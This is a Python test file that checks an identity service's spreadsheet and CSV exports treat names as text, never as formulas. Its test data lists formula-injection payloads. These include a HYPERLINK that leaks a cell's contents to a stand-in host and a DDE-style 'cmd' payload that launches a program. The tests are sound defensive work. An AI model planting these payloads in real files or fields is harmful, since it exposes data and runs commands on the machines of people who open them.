"""What people download opens in a spreadsheet program: names in it are words, never formulas."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from services.identity.pages.access import _csv
from services.identity.people.sheets import template_workbook
from tests.attacks.ground import Ground

FORMULAS = (
    '=HYPERLINK("https://evil.test/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_download_is_a_formula(name: str) -> None:
    book = load_workbook(io.BytesIO(template_workbook([(name, "/x/")], [name])))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert name.strip() in {str(cell.value).strip() for cell in cells}
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    [_, row] = csv.reader(io.StringIO(_csv([[name, "贾"]])))
    assert row == [f"'{name}", "贾"]


def test_the_name_of_an_organisation_is_one_of_these_cells(ground: Ground) -> None:
    """What one administrator calls it, another opens."""
    place = {"parent": "/demo-city/", "code": "formula", "kind": "centre", "name": FORMULAS[0]}
    assert ground.ask("administrator", "POST", "/identity/organisations", data=place).status_code == 303
    sent = ground.ask("administrator2", "GET", "/identity/people/import/people.xlsx")
    book = load_workbook(io.BytesIO(sent.content))
    [cell] = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == FORMULAS[0]]
    assert cell.data_type in ("s", "inlineStr")
